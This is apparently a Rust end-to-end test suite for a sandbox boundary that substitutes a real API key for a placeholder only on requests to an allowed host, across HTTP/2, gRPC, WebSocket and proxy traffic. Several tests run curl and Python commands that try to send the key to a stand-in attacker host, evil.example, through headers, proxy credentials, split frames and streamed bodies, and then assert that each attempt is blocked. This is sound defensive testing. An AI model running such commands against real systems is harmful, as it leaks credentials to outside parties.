//! End-to-end: HTTP/2 (both directions of translation), gRPC and other protocols through the
//! secret-aware boundary, with real clients and servers.

mod support;

use support::*;

const VALUE: &str = "sk-real-7f3a9c";
const PH: &str = "$MSB_OPENAI_API_KEY";
const ENV: &[(&str, &str)] = &[("OPENAI_API_KEY", VALUE)];
const SECRET: &str = "OPENAI_API_KEY@api.openai.com";

fn run(net: &FakeInternet, extra: &[&str], script: &str) -> std::process::Output {
    run_with_secret(net, Some(SECRET), extra, ENV, script)
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn curl_http2_is_substituted_against_h1_only_and_h2_only_upstreams() {
    // 443: HTTP/1.1-only upstream; 8443: HTTP/2-only upstream.
    let net = FakeInternet::with_h2(&[80], &[443], &[8443], &[]);
    let o = run(
        &net,
        &[],
        r#"for u in https://api.openai.com/h1only https://api.openai.com:8443/h2only; do
             curl -sS -m 5 --http2 -o /dev/null -w '%{http_version} %{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" "$u"; done
           curl -sS -m 5 --http2 -H "X: $OPENAI_API_KEY" https://evil.example/h2evil >/dev/null 2>&1; echo "evil=$?""#,
    );
    let out = stdout(&o);
    assert!(out.starts_with("2 200\n2 200\n"), "{}", report(&o, &net));
    assert!(!out.contains("evil=0"), "{}", report(&o, &net));
    let got = net.received_at(UPSTREAM_V4);
    assert!(got.contains("GET /h1only HTTP/1.1"), "{got}");
    // Both upstreams got the value (HTTP/2 header names are lower-case, also after
    // translation to HTTP/1.1).
    assert!(got.contains(":path: /h2only"), "{got}");
    assert_eq!(
        got.matches(&format!("authorization: Bearer {VALUE}\r\n"))
            .count(),
        2,
        "{got}"
    );
    assert!(!net.received().contains("/h2evil"));
    assert!(!got.contains(PH), "{got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn each_client_reaches_an_upstream_that_speaks_both_in_its_own_http_version() {
    // 9443 offers HTTP/2 and HTTP/1.1. A client that sent HTTP/1.1 must arrive as HTTP/1.1
    // (with its header names as written), one that sent HTTP/2 as HTTP/2.
    let net = FakeInternet::with_h2_or_h1(&[80], &[443], &[9443]);
    let o = run(
        &net,
        &[],
        r#"curl -sS -m 5 --http1.1 -o /dev/null -w '%{http_version} %{http_code}
' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com:9443/sent-as-h1
           curl -sS -m 5 --http2 -o /dev/null -w '%{http_version} %{http_code}
' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com:9443/sent-as-h2
           python3 -c 'import os, urllib.request as u; print("urllib", u.urlopen(u.Request("https://api.openai.com:9443/urllib", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}), timeout=5).status)'"#,
    );
    let out = stdout(&o);
    assert!(
        out.starts_with("1.1 200\n2 200\nurllib 200"),
        "{}",
        report(&o, &net)
    );
    let got = net.received_at(UPSTREAM_V4);
    assert!(got.contains("GET /sent-as-h1 HTTP/1.1\r\n"), "{got}");
    assert!(got.contains(":path: /sent-as-h2"), "{got}");
    assert!(got.contains("GET /urllib HTTP/1.1\r\n"), "{got}");
    assert!(!got.contains(":path: /sent-as-h1"), "{got}");
    assert!(!got.contains(":path: /urllib"), "{got}");
    // Substituted either way.
    assert_eq!(got.matches(VALUE).count(), 3, "{got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn httpx_http2_client_with_substitution() {
    let net = FakeInternet::with_h2(&[80], &[443], &[8443], &[]);
    let o = run(
        &net,
        &[],
        &python(
            r#"
import os, httpx
with httpx.Client(http2=True, timeout=5) as c:
    for url in ["https://api.openai.com:8443/httpx", "https://api.openai.com/httpx-h1"]:
        r = c.get(url, headers={"authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
        print(r.http_version, r.status_code, "placeholder-echoed" if "$MSB_OPENAI_API_KEY" in r.text else "", "LEAK" if "sk-real" in r.text else "")
"#,
        ),
    );
    let out = stdout(&o);
    assert!(
        out.contains("HTTP/2 200 placeholder-echoed"),
        "{}",
        report(&o, &net)
    );
    assert_eq!(out.matches("200").count(), 2, "{}", report(&o, &net));
    assert!(!out.contains("LEAK"), "{}", report(&o, &net));
    let got = net.received_at(UPSTREAM_V4);
    assert!(
        got.contains(&format!("authorization: Bearer {VALUE}")),
        "{got}"
    );
    assert!(got.contains("GET /httpx-h1 HTTP/1.1"), "{got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn grpc_unary_and_streaming_with_substituted_metadata_and_trailers() {
    let net = FakeInternet::with_h2(&[80], &[443], &[], &[50051]);
    let o = run(
        &net,
        &[],
        &python(
            r#"
import os, grpc
md = (("authorization", "Bearer " + os.environ["OPENAI_API_KEY"]),)
ch = grpc.secure_channel("api.openai.com:50051", grpc.ssl_channel_credentials())
unary = ch.unary_unary("/test.Echo/Unary")
resp, call = unary.with_call(b"hello", metadata=md, timeout=5)
print("unary", resp, dict(call.trailing_metadata()).get("x-trailer"))
stream = ch.stream_stream("/test.Echo/Stream")
call = stream(iter([b"a", b"b", b"c"]), metadata=md, timeout=5)
print("stream", [r for r in call], dict(call.trailing_metadata()).get("x-trailer"))
"#,
        ),
    );
    let out = stdout(&o);
    assert!(
        out.contains("unary b'echo:hello' done"),
        "{}",
        report(&o, &net)
    );
    assert!(
        out.contains("stream [b'echo:a', b'echo:b', b'echo:c'] stream-done"),
        "{}",
        report(&o, &net)
    );
    let got = net.received();
    assert_eq!(
        got.matches(&format!("authorization: Bearer {VALUE}"))
            .count(),
        2,
        "{got}"
    );
    assert!(!got.contains(PH), "{got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn websocket_handshake_is_substituted_and_frames_are_scanned() {
    let net = FakeInternet::with_peers(&[80], &[443], &[], &[], &[8765]);
    let o = run(
        &net,
        &[],
        &python(
            r#"
import os, websockets.sync.client as c
ph = os.environ["OPENAI_API_KEY"]
with c.connect("wss://api.openai.com:8765/chat", additional_headers={"Authorization": "Bearer " + ph}, open_timeout=5) as ws:
    ws.send("hello")
    print("echo", ws.recv(timeout=5))
    ws.send("inert " + ph)
    print("inert", "placeholder" if ws.recv(timeout=5).endswith(ph) else "other")
try:
    with c.connect("wss://evil.example:8765/x", open_timeout=5) as ws:
        ws.send("fine")
        print("evil-echo", ws.recv(timeout=5))
        ws.send("key=" + ph[:6])
        ws.send(ph[6:] + " tail")
        print("evil-echo2", ws.recv(timeout=5))
except Exception as e:
    print("evil-closed", type(e).__name__)
"#,
        ),
    );
    let out = stdout(&o);
    assert!(out.contains("echo hello"), "{}", report(&o, &net));
    // A placeholder in a frame to its allowed host is inert data: passed, not substituted.
    assert!(out.contains("inert placeholder"), "{}", report(&o, &net));
    assert!(out.contains("evil-echo fine"), "{}", report(&o, &net));
    assert!(out.contains("evil-closed"), "{}", report(&o, &net));
    let got = net.received();
    assert!(
        got.contains(&format!("Authorization: Bearer {VALUE}")),
        "{got}"
    );
    assert!(got.contains("WSMSG fine"), "{got}");
    assert!(
        !got.contains("key="),
        "the split placeholder's first frame leaked: {got}"
    );
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn websocket_frames_from_the_server_are_scrubbed() {
    let net = FakeInternet::with_peers(&[80], &[443], &[], &[], &[8765]);
    let o = run(
        &net,
        &[],
        &python(
            r#"
import os, websockets.sync.client as c
ph = os.environ["OPENAI_API_KEY"]
def what(r):
    return "placeholder" if r == "Bearer " + ph else "other: " + r
with c.connect("wss://api.openai.com:8765/echo", additional_headers={"Authorization": "Bearer " + ph}, open_timeout=5) as ws:
    ws.send("whoami")
    print("whoami", what(ws.recv(timeout=5)))
    ws.send("whoami-split")
    print("whoami-split", what(ws.recv(timeout=5)))
    ws.send("still open")
    print("echo", ws.recv(timeout=5))
"#,
        ),
    );
    let out = stdout(&o);
    // The server received the real value (it was substituted in the handshake) and sent it
    // back, whole and cut across two fragments: the sandbox gets the placeholder both times.
    let got = net.received();
    assert!(
        got.contains(&format!("Authorization: Bearer {VALUE}")),
        "{got}"
    );
    assert!(out.contains("whoami placeholder"), "{}", report(&o, &net));
    assert!(
        out.contains("whoami-split placeholder"),
        "{}",
        report(&o, &net)
    );
    assert!(out.contains("echo still open"), "{}", report(&o, &net));
    assert!(!out.contains(VALUE), "{}", report(&o, &net));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn proxies_inside_the_sandbox_are_answered_by_the_boundary() {
    let net = FakeInternet::with_http(&[80], &[443]);
    // 45.90.1.77 runs nothing: the boundary answers CONNECT itself and never dials it.
    let o = run(
        &net,
        &[],
        r#"export HTTPS_PROXY=http://45.90.1.77:3128
           curl -sS -m 5 -o /dev/null -w 'proxied %{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/via-proxy
           python3 -c 'import os, urllib.request as u; r = u.Request("https://api.openai.com/py-proxy", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}); print("py", u.urlopen(r, timeout=5).status)'
           curl -sS -m 5 -H "X: $OPENAI_API_KEY" https://evil.example/proxied-evil >/dev/null 2>&1; echo "evil=$?"
           curl -sS -m 5 --proxy-header "X-Leak: $OPENAI_API_KEY" https://api.openai.com/outer >/dev/null 2>&1; echo "outer=$?"
           curl -sS -m 5 --proxy-user "u:$OPENAI_API_KEY" https://api.openai.com/outer-basic >/dev/null 2>&1; echo "outer-basic=$?"
           unset HTTPS_PROXY
           curl -sS -m 5 -x http://45.90.1.20:80 -H "X: $OPENAI_API_KEY" http://evil.example/forward >/dev/null 2>&1; echo "forward=$?"
           curl -sS -m 5 -o /dev/null -w 'forward-clean %{http_code}\n' -x http://45.90.1.20:80 http://evil.example/forward-clean
           curl -s -m 5 -o /dev/null http://evil.example/sentinel-zz"#,
    );
    let out = stdout(&o);
    assert!(out.contains("proxied 200"), "{}", report(&o, &net));
    assert!(out.contains("py 200"), "{}", report(&o, &net));
    for k in ["evil", "outer", "outer-basic", "forward"] {
        assert!(
            !out.contains(&format!("{k}=0")),
            "{k}: {}",
            report(&o, &net)
        );
    }
    assert!(out.contains("forward-clean 200"), "{}", report(&o, &net));
    assert!(net.wait_received("/sentinel-zz"));
    let got = net.received();
    assert_eq!(got.matches(&format!("Bearer {VALUE}")).count(), 2, "{got}");
    for path in ["/proxied-evil", "/outer", "/forward "] {
        assert!(!got.contains(path), "{path} reached a destination: {got}");
    }
    assert!(
        got.contains("GET http://evil.example/forward-clean HTTP/1.1"),
        "{got}"
    );
    assert!(!got.contains(PH), "{got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn http2_bodies_without_content_length_are_scanned() {
    // An HTTP/2 request body needs no Content-Length: it must be scanned all the same.
    let net = FakeInternet::with_h2(&[80], &[443], &[8443], &[]);
    let o = run(
        &net,
        &[],
        &format!(
            "{}; curl --http1.1 -s -m 5 -o /dev/null http://evil.example/sentinel-zz",
            python(
                r#"
import os, httpx
ph = os.environ["OPENAI_API_KEY"].encode()
def body():
    yield b"note="
    yield ph
with httpx.Client(http2=True, timeout=5) as c:
    r = c.post("https://api.openai.com:8443/allowed", content=body())
    print("allowed", r.http_version, r.status_code)
try:
    with httpx.Client(http2=True, timeout=5) as c:
        r = c.post("https://evil.example:8443/streamed", content=body())
        print("evil", r.status_code)
except Exception as e:
    print("evil-blocked", type(e).__name__)
"#
            )
        ),
    );
    let out = stdout(&o);
    // The same request shape goes through to the allowed host (placeholder inert in a body)...
    assert!(out.contains("allowed HTTP/2 200"), "{}", report(&o, &net));
    // ...and is stopped on its way to an unknown one.
    assert!(out.contains("evil-blocked"), "{}", report(&o, &net));
    assert!(net.wait_received("/sentinel-zz"));
    let got = net.received();
    assert!(got.contains("/allowed"), "{got}");
    assert!(!got.contains("/streamed"), "{got}");
    assert!(!got_contains_evil_placeholder(&net), "{got}");
}

fn got_contains_evil_placeholder(net: &FakeInternet) -> bool {
    net.connections()
        .iter()
        .any(|(sni, data)| sni == "evil.example" && data.contains("MSB_"))
}
